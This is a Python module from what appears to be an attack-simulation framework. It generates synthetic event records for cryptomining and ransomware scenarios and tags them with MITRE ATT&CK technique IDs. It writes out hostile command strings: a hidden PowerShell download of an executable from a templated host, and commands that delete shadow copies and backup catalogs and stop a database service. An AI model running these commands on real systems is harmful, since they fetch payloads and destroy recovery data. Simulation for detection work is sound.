"""What decoys are after: money."""

from __future__ import annotations

from ringleader.scenario.acts.commands import one, windows_place
from ringleader.scenario.deeds import windows
from ringleader.scenario.play import Play

SECOND = 1_000_000


def mine(play: Play, tool: str, pool: str = "{pool}", port: int = 3333) -> None:
    """A miner is fetched and started."""
    at = windows_place(play)
    play.pause()
    one(
        play,
        "T1105",
        f"powershell.exe -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://{play.text(pool)}/m.exe','{play.tool(tool).image}')\"",
    )
    play.pause(0.3)
    process = one(play, "T1496.001", play.command(tool), program=play.tool(tool))
    assert process is not None
    with play.step("T1496.001", f"the miner connects to {play.text(pool)}", at.host) as time:
        windows.looks_up(play.scene, process, time + SECOND, play.text(pool), play.address)
        windows.connects(
            play.scene,
            process,
            time + 2 * SECOND,
            play.address,
            port,
            name=play.text(pool),
            seconds=40_000,
            sent=900_000,
        )


def encrypt(play: Play, tool: str, files: int = 40) -> None:
    """Shadow copies are removed and files renamed."""
    at = windows_place(play)
    for line in (
        "T1490 vssadmin delete shadows /all /quiet",
        "T1490 wbadmin delete catalog -quiet",
        "T1489 net stop MSSQLSERVER /y",
    ):
        technique, command = line.split(" ", 1)
        play.pause(0.1)
        one(play, technique, command)
    play.pause(0.1)
    process = one(play, "T1486", play.command(tool), program=play.tool(tool))
    assert process is not None
    with play.step("T1486", f"{files} files are encrypted", at.host, at.session.account.full) as time:
        for index in range(files):
            path = f"D:\\Shares\\Finance\\{play.text('{word}')}{index}.xlsx.{play.text('{extension}')}"
            windows.writes(play.scene, process, time + SECOND + index * SECOND // 20, path)
